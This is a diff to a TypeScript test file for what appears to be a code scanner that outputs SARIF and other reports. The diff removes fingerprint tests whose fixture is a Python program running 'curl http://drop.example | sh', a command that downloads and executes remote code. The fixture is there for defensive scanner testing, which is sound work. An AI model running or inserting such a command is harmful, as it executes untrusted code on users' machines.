@@ -11,7 +11,6 @@ import type { Sample } from '../../sample/sample.ts';
 import { neutralizeLines } from '../neutralize.ts';
 import type { Report } from '../report.ts';
 import { renderAnnotations } from './annotations.ts';
-import { fingerprintsOf } from './fingerprint.ts';
 import { HOSTILE_TEXTS } from './hostile.fixture.ts';
 import { renderJunit } from './junit.ts';
 import { renderMarkdown } from './markdown.ts';
@@ -150,30 +149,5 @@ describe.skipIf(NO_SPEC !== undefined)('SARIF', () => {
       expect([name, validate(sarif), validate.errors]).toEqual([name, true, null]);
       expect(sarif.runs[0].results).toHaveLength(report.findings.length);
     }
-  });
-});
-
-describe('a fingerprint', () => {
-  const program = "import os\n\nos.system('curl http://drop.example | sh')\n";
-  async function of(source: string): Promise<string[]> {
-    const given = sampleOfSource(source, 'python', { entry: 'a.py' });
-    return fingerprintsOf(await check(given, { depth: 'quick' }), given);
-  }
-
-  it('survives moved lines and another indentation', async () => {
-    const moved = program.replace('import os\n', '"""Words."""\n\nimport os\n\n');
-    expect(await of(moved)).toEqual(await of(program));
-    expect((await of(program)).length).toBeGreaterThan(0);
-  });
-
-  it('does not survive another behaviour', async () => {
-    const before = await of(program);
-    const after = await of(program.replace('drop.example', 'other.example'));
-    expect(after.filter((print) => before.includes(print))).toEqual([]);
-  });
-
-  it('tells two of the same line apart', async () => {
-    const twice = await of(`${program}os.system('curl http://drop.example | sh')\n`);
-    expect(new Set(twice).size).toBe(twice.length);
   });
 });
